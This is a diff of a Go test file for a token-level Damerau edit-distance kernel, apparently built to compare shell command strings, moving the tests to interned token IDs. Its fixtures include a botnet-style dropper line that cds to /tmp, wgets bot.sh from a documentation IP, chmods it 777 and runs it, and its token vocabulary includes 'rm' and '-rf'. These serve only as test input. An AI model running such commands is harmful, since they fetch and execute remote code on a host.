@@ -16,29 +16,24 @@ func genTokens(r *rand.Rand, maxLen int, vocab []string) []string {
 }
 
 // TestBoundedKernelEqualsFullDP is the kernel-equivalence property
-// test: the Ukkonen doubling-band kernel must equal the naive full-DP
-// reference on random token sequences, including transposition-heavy
-// and shared-prefix/suffix cases.
+// test over token strings: interned, the bounded kernel must equal the
+// naive full-DP reference on random token sequences, including
+// transposition-heavy and shared-prefix/suffix cases (the shapes its
+// affix stripping has to get right).
 func TestBoundedKernelEqualsFullDP(t *testing.T) {
 	r := rand.New(rand.NewSource(101))
 	small := []string{"a", "b"}
 	mid := []string{"cd", "/tmp", "wget", "chmod", "777", "sh", "rm", "-rf", "x"}
 	s := NewScratch()
+	in := NewInterner()
 	trial := func(a, b []string) {
 		t.Helper()
 		want := Damerau(a, b)
-		if got := s.DamerauBounded(a, b); got != want {
+		ia, ib := in.Intern(a), in.Intern(b)
+		if got := s.damerauBoundedIDs(ia, ib); got != want {
 			t.Fatalf("bounded = %d, full = %d for %v vs %v", got, want, a, b)
 		}
-		n := len(a)
-		if len(b) > n {
-			n = len(b)
-		}
-		wantN := 0.0
-		if n > 0 {
-			wantN = float64(want) / float64(n)
-		}
-		if got := s.Normalized(a, b); got != wantN {
+		if got, wantN := s.NormalizedIDs(ia, ib), s.Normalized(a, b); got != wantN {
 			t.Fatalf("normalized = %v, want %v for %v vs %v", got, wantN, a, b)
 		}
 	}
@@ -143,6 +138,7 @@ func TestInternedKernelEqualsFullDP(t *testing.T) {
 // TestBoundedKernelEdgeCases pins the hand-checkable shapes.
 func TestBoundedKernelEdgeCases(t *testing.T) {
 	s := NewScratch()
+	in := NewInterner()
 	cases := []struct {
 		a, b string
 		want int
@@ -160,25 +156,26 @@ func TestBoundedKernelEdgeCases(t *testing.T) {
 	}
 	for _, c := range cases {
 		a, b := Tokenize(c.a), Tokenize(c.b)
-		if got := s.DamerauBounded(a, b); got != c.want {
-			t.Errorf("DamerauBounded(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
+		if got := s.damerauBoundedIDs(in.Intern(a), in.Intern(b)); got != c.want {
+			t.Errorf("damerauBoundedIDs(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
 		}
-		if got, want := s.DamerauBounded(a, b), Damerau(a, b); got != want {
-			t.Errorf("bounded %q/%q = %d, full = %d", c.a, c.b, got, want)
+		if got := Damerau(a, b); got != c.want {
+			t.Errorf("Damerau(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
 		}
 	}
 }
 
 // TestKernelStats: the counters must reflect the work split — every
-// pair counted, trivial pairs resolved without band passes, and the
-// banded cell count never exceeding the full-DP cell count on
+// pair counted, trivial pairs resolved without a kernel pass, and the
+// kernel's cell count never exceeding the full-DP cell count on
 // near-duplicate pairs.
 func TestKernelStats(t *testing.T) {
 	s := NewScratch()
-	a := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh")
-	b := Tokenize("cd /tmp; wget http://198.51.100.9/bot.sh; chmod 777 bot.sh; sh bot.sh")
-	s.Normalized(a, a) // identical: trivial
-	s.Normalized(a, b) // near-duplicate: banded
+	in := NewInterner()
+	a := in.Intern(Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh"))
+	b := in.Intern(Tokenize("cd /tmp; wget http://198.51.100.9/bot.sh; chmod 777 bot.sh; sh bot.sh"))
+	s.NormalizedIDs(a, a) // identical: trivial
+	s.NormalizedIDs(a, b) // near-duplicate: one bit-parallel pass
 	st := s.Stats()
 	if st.Pairs != 2 {
 		t.Errorf("pairs = %d, want 2", st.Pairs)
@@ -190,7 +187,7 @@ func TestKernelStats(t *testing.T) {
 		t.Errorf("band passes = %d, want >= 1", st.BandPasses)
 	}
 	if st.CellsDP >= st.CellsFull {
-		t.Errorf("cells: banded %d >= full %d — no work saved on near-duplicates", st.CellsDP, st.CellsFull)
+		t.Errorf("cells: kernel %d >= full %d — no work saved on near-duplicates", st.CellsDP, st.CellsFull)
 	}
 	var sum KernelStats
 	sum.Add(st)
@@ -230,11 +227,8 @@ func FuzzDamerauBanded(f *testing.F) {
 		a, b := toTokens(rawA), toTokens(rawB)
 		s := NewScratch()
 		full := Damerau(a, b)
-		if got := s.DamerauBounded(a, b); got != full {
-			t.Fatalf("bounded = %d, full = %d for %v vs %v", got, full, a, b)
-		}
-		// The interned hybrid kernel must agree as well: intern both
-		// sequences and compare against the unbounded ID reference.
+		// The interned hybrid kernel: intern both sequences and compare
+		// against the unbounded ID reference.
 		in := NewInterner()
 		ia, ib := in.Intern(a), in.Intern(b)
 		if got, want := s.NormalizedIDs(ia, ib), s.NormalizedIDsFull(ia, ib); got != want {
